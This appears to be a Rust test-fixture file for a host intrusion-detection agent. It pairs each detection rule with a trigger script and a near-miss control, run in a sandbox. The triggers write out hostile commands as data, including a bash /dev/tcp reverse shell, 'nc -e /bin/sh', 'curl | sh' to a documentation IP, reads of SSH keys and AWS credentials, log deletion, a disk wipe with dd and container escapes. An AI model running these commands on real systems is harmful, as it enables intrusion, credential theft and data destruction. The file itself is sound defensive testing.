//! What is done for each shipped rule, and beside it what differs in one decisive point and must
//! not be told. Both are shell scripts that run in a world of their own ([`super::world`]).
//!
//! In a script, `t NAME ARGS…` runs a harmless program under that name, `sh_as NAME ARGS…` a shell,
//! `me_as NAME OPERATION…` this program; `$ME act` does an operation as itself; `$D` is a directory
//! of the deed's own, its `bin` in front of the search path.

/// A rule and two scripts.
pub(super) struct Deed {
    /// Id of the rule.
    pub(super) rule: &'static str,
    /// What it must tell of.
    pub(super) script: &'static str,
    /// What it must not tell of.
    pub(super) control: &'static str,
}

const fn deed(rule: &'static str, script: &'static str, control: &'static str) -> Deed {
    Deed { rule, script, control }
}

/// Rules that nothing can provoke here, and why.
pub(super) const UNPROVOKED: &[(&str, &str)] = &[
    (
        "kernel-module-loaded-by-unexpected-program",
        "it would load a module into this host's kernel",
    ),
    ("kernel-module-loaded-from-odd-place", "it would load a module into this host's kernel"),
    ("host-disk-mounted-in-container", "it would mount a disk of this host a second time"),
    ("kernel-helper-program-set", "it would name a program that this host's kernel starts"),
];

/// Files that are there when the agent starts.
pub(super) const FILES: &[&str] = &[
    "/var/log/wtmp",
    "/root/.ssh/id_rsa",
    "/root/.ssh/id_rsa.pub",
    "/root/.aws/credentials",
    "/root/.aws/other",
];

/// Directories that are.
pub(super) const DIRECTORIES: &[&str] = &[
    "/etc/cron.d",
    "/etc/ld.so.conf.d",
    "/etc/profile.d",
    "/etc/udev/rules.d",
    "/etc/pam.d",
    "/etc/init.d",
    "/etc/apt/apt.conf.d",
    "/etc/modprobe.d",
    "/etc/ssh/sshd_config.d",
    "/etc/systemd/system",
    "/etc/sudoers.d",
    "/root/.config/systemd/user",
    "/home/p/.ssh",
    "/srv/www",
];

/// Files that should not be written, read or removed.
pub(super) const OF_FILES: &[Deed] = &[
    deed("cron-entry-written", "echo >> /etc/cron.d/p", "echo >> /etc/cron-p"),
    deed(
        "systemd-unit-written",
        "echo > /etc/systemd/system/p.service",
        "echo > /etc/systemd/p.service",
    ),
    deed(
        "user-service-written",
        "echo > /root/.config/systemd/user/p.service",
        "echo > /root/.config/systemd/p.service",
    ),
    deed(
        "ssh-authorized-keys-written",
        "echo >> /root/.ssh/authorized_keys",
        "echo >> /root/.ssh/known_hosts",
    ),
    deed(
        "ssh-authorized-keys-replaced",
        "echo > /home/p/.ssh/new; mv /home/p/.ssh/new /home/p/.ssh/authorized_keys",
        "echo > /home/p/.ssh/new; mv /home/p/.ssh/new /home/p/.ssh/known_hosts",
    ),
    deed("library-preload-configured", "echo > /etc/ld.so.preload", "echo > /etc/ld.so.p"),
    deed("library-path-configured", "echo > /etc/ld.so.conf.d/p.conf", "echo > /etc/ld.so.p.conf"),
    deed("shell-profile-written", "echo > /etc/profile.d/p.sh", "echo > /etc/profile-p.sh"),
    deed("udev-rule-written", "echo > /etc/udev/rules.d/p.rules", "echo > /etc/udev/p.rules"),
    deed("pam-configuration-written", "echo > /etc/pam.d/p", "echo > /etc/pam-p"),
    deed("init-script-written", "echo > /etc/init.d/p", "echo > /etc/init-p"),
    deed("package-manager-hook-written", "echo > /etc/apt/apt.conf.d/p", "echo > /etc/apt/p"),
    deed(
        "module-autoload-configured",
        "echo > /etc/modprobe.d/p.conf",
        "echo > /etc/modprobe-p.conf",
    ),
    deed(
        "ssh-server-configuration-written",
        "echo > /etc/ssh/sshd_config.d/p.conf",
        "echo > /etc/ssh/p.conf",
    ),
    deed(
        "web-server-writes-script",
        "sh_as nginx -c 'echo > /srv/www/a.php'",
        "sh_as nginx -c 'echo > /srv/www/a.png'",
    ),
    deed(
        "ransom-note-written",
        "echo > /srv/how_to_decrypt_files.txt",
        "echo > /srv/how_to_build_files.txt",
    ),
    deed(
        "shell-history-removed",
        "touch /root/.bash_history; rm /root/.bash_history",
        "touch /root/.bash_p; rm /root/.bash_p",
    ),
    deed(
        "system-log-deleted",
        "touch /var/log/auth.log; rm /var/log/auth.log",
        "touch /var/log/p.log; rm /var/log/p.log",
    ),
    deed("login-record-rewritten", "echo >> /var/log/wtmp", "echo >> /var/log/p"),
    deed("sudoers-written", "echo > /etc/sudoers.d/p", "echo > /etc/sudo-p"),
    deed(
        "account-database-written",
        "cp /etc/group /etc/g; mv /etc/g /etc/group",
        "cp /etc/group /etc/g; mv /etc/g /etc/group-p",
    ),
    deed(
        "setuid-file-made",
        "cp /bin/true $D/s; chmod 4755 $D/s",
        "cp /bin/true $D/s; chmod 755 $D/s",
    ),
    deed(
        "shadow-read-by-unexpected-program",
        "cat /etc/shadow > $D/copy",
        "cat /etc/passwd > $D/copy",
    ),
    deed("ssh-private-key-read", "cat /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub"),
    deed("cloud-credential-read", "cat /root/.aws/credentials", "cat /root/.aws/other"),
];

/// Programs that should not be started, or not so.
pub(super) const OF_PROGRAMS: &[Deed] = &[
    deed("insmod-of-odd-file", "t insmod /srv/p.ko", "t insmod /lib/modules/p.ko"),
    deed(
        "shell-from-network-service",
        "sh_as nginx -c 'sh -c :; :'",
        "sh_as plain -c 'sh -c :; :'",
    ),
    deed(
        "execution-from-temporary-directory",
        "cp /bin/true /tmp/p; /tmp/p",
        "cp /bin/true $D/p; $D/p",
    ),
    deed(
        "execution-from-shared-memory",
        "cp /bin/true /dev/shm/p; /dev/shm/p",
        "cp /bin/true $D/p; $D/p",
    ),
    deed("execution-of-memory-file", "$ME act exec-memfd p /bin/busybox true", "busybox true"),
    deed(
        "execution-of-deleted-file",
        "cp /bin/busybox $D/p; $ME act exec-deleted $D/p true",
        "cp /bin/busybox $D/true; $D/true",
    ),
    deed("shell-on-a-socket", "$ME act on-socket /bin/sh -c :", "$ME act as 0 /bin/sh -c :"),
    deed(
        "shell-redirected-to-network-path",
        "t bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
        "t bash -c 'bash -i >& /dev/tcp/127.0.0.1/443 0>&1'",
    ),
    deed(
        "interpreter-one-liner-with-socket",
        "t python3 -c 'import socket,pty; s = socket.socket(); pty.spawn(\"sh\")'",
        "t python3 -c 'import socket; print(socket.gethostname())'",
    ),
    deed(
        "network-tool-executes-program",
        "t nc -e /bin/sh 203.0.113.7 4444",
        "t nc -v 203.0.113.7 4444",
    ),
    deed(
        "download-piped-to-shell",
        "t curl; sh -c 'curl -s http://203.0.113.7/a | sh'",
        "t curl; sh -c 'curl -s http://203.0.113.7/a | cat'",
    ),
    deed(
        "decoded-text-run-as-program",
        "t p -c 'echo aWQK | base64 -d | bash'",
        "t p -c 'echo aWQK | base64 -d > key.pem'",
    ),
    deed("service-looks-around", "sh_as nginx -c 'id; :'", "sh_as plain -c 'id; :'"),
    deed(
        "search-for-privileged-files",
        "t find; $ME act as 65534 $D/bin/find / -perm -4000",
        "t find; $ME act as 65534 $D/bin/find / -perm -644",
    ),
    deed("miner-started", "t xmrig", "t xmrig-docs"),
    deed("disk-overwritten", "t dd if=/dev/zero of=/dev/sda", "t dd if=/dev/zero of=/srv/sda"),
    deed(
        "shell-history-disabled",
        "HISTFILE=/dev/null script -qec 'sh -c :' /dev/null",
        "HISTFILE=/root/.h script -qec 'sh -c :' /dev/null",
    ),
    deed(
        "library-preloaded-from-writable-place",
        "LD_PRELOAD=/tmp/none.so /bin/true",
        "LD_PRELOAD=/usr/lib/none.so /bin/true",
    ),
    deed("auditing-switched-off", "t setenforce 0", "t setenforce 1"),
    deed("security-service-stopped", "t systemctl stop auditd", "t systemctl stop nginx"),
    deed("file-times-forged", "t touch -t 201801010000 /usr/lib/p.so", "t touch /usr/lib/p.so"),
    deed("file-made-immutable", "t chattr +i /etc/p", "t chattr -i /etc/p"),
    deed(
        "process-poses-as-kernel-thread",
        "bash -c 'exec -a \"[kworker/0:1]\" /bin/true'",
        "bash -c 'exec -a kworker/0:1 /bin/true'",
    ),
    deed("deceptive-program-name", "t 'sshd '", "t sshd"),
    deed(
        "execution-from-hidden-place",
        "mkdir /usr/lib/.p; cp /bin/true /usr/lib/.p; /usr/lib/.p/true",
        "mkdir /usr/lib/p; cp /bin/true /usr/lib/p; /usr/lib/p/true",
    ),
    deed(
        "firewall-emptied",
        "t iptables; script -qec 'iptables -F' /dev/null",
        "t iptables; script -qec 'iptables -L' /dev/null",
    ),
    deed(
        "tunnelling-tool-started",
        "t chisel client 203.0.113.7:443",
        "t chisels client 203.0.113.7:443",
    ),
    deed("host-entered-from-process-one", "t nsenter -t 1 -m", "t nsenter -t 2 -m"),
    deed("namespace-tool-in-container", "contained; t unshare -m", "t unshare -m"),
    deed("release-agent-in-command", "t p 'echo x > /c/release_agent'", "t p 'echo x > /c/tasks'"),
    deed(
        "container-engine-socket-used",
        "t curl --unix-socket /run/docker.sock http://d/containers/create",
        "t curl --unix-socket /run/docker.sock http://d/_ping",
    ),
    deed(
        "container-started-with-host-in-reach",
        "t docker run -v /:/host image",
        "t docker run -v /srv:/host image",
    ),
    deed("process-memory-read-by-tool", "t strings /proc/1/environ", "t strings /proc/1/status"),
    deed("process-memory-dumped", "t gcore 1", "t gcores 1"),
    deed("kernel-keyring-read", "t keyctl print 1", "t keyctl show"),
    deed(
        "dangerous-file-capability-set",
        "t setcap cap_setuid+ep /srv/p",
        "t setcap cap_net_bind_service+ep /srv/p",
    ),
    deed(
        "shell-with-borrowed-root",
        "cp /bin/sh $D/dash; chmod 4755 $D/dash; $ME act as 65534 $D/dash -c :",
        "cp /bin/sh $D/dash; chmod 755 $D/dash; $ME act as 65534 $D/dash -c :",
    ),
    deed(
        "root-shell-without-gate",
        "cp $ME $D/p; chmod 4755 $D/p; $ME act as 65534 /bin/sh -c \"$D/p act as 0 /bin/sh -c :; :\"",
        "cp $ME $D/p; chmod 4755 $D/p; /bin/sh -c \"$D/p act as 0 /bin/sh -c :; :\"",
    ),
];

/// What processes should not do to each other, to the kernel and over the network.
pub(super) const OF_ACTS: &[Deed] = &[
    deed(
        "mining-pool-looked-up",
        "$ME act dns pool.supportxmr.com",
        "$ME act dns provoke.example.com",
    ),
    deed(
        "dns-name-carries-data",
        "l=abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz; $ME act dns $l.$l.$l.example.com",
        "l=abcdefghijklmnopqrstuvwxyz; $ME act dns $l.$l.$l.example.com",
    ),
    deed(
        "tunnel-or-hidden-service-looked-up",
        "$ME act dns p.ngrok.io",
        "$ME act dns p.example.io",
    ),
    deed(
        "misplaced-program-uses-pool-port",
        "cp $ME /tmp/p; $ME act in-network 203.0.113.7 /tmp/p act connect-refused 203.0.113.7:3333",
        "cp $ME /tmp/p; $ME act in-network 203.0.113.7 /tmp/p act connect-refused 203.0.113.7:80",
    ),
    deed(
        "shell-opened-connection",
        "$ME act in-network 203.0.113.7 /bin/bash -c 'exec 3<>/dev/tcp/203.0.113.7/443; :' || :",
        "$ME act in-network 203.0.113.7 /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/443; :' || :",
    ),
    deed(
        "misplaced-program-opened-connection",
        "cp $ME /tmp/q; $ME act in-network 203.0.113.7 /tmp/q act connect-refused 203.0.113.7:443",
        "me_as q noop; $ME act in-network 203.0.113.7 $D/bin/q act connect-refused 203.0.113.7:443",
    ),
    deed("shell-tool-listens", "me_as nc listen 0.0.0.0:0", "me_as nc listen 127.0.0.1:0"),
    deed(
        "metadata-service-contacted",
        "me_as curl noop; $ME act in-network 169.254.169.254 $D/bin/curl act connect-refused 169.254.169.254:80",
        "me_as curl noop; $ME act in-network 169.254.169.254 $D/bin/curl act connect-refused 169.254.169.254:8080",
    ),
    deed(
        "agent-signalled",
        "sleep_as aegisbpf; kill -9 $!",
        "sleep_as aegisbpf; kill -18 $!; kill -10 $!",
    ),
    deed(
        "process-traced",
        "sleep_as p; $ME act ptrace-seize $!; kill $!",
        "sleep_as p; me_as gdb ptrace-seize $!; kill $!",
    ),
    deed("bpf-program-loaded-by-unexpected-program", "$ME act bpf", "me_as ip bpf"),
    deed(
        "unexpected-program-becomes-root",
        "cp $ME /tmp/r; chmod 4755 /tmp/r; $ME act as 65534 /bin/sh -c '/tmp/r act regain 65534; :'",
        "cp $ME /tmp/r; chmod 4755 /tmp/r; /bin/sh -c '/tmp/r act regain 65534; :'",
    ),
    deed(
        "control-groups-mounted-in-container",
        "mkdir $D/m; contained; mount -t cgroup2 none $D/m",
        "mkdir $D/m; contained; mount -t tmpfs none $D/m",
    ),
];
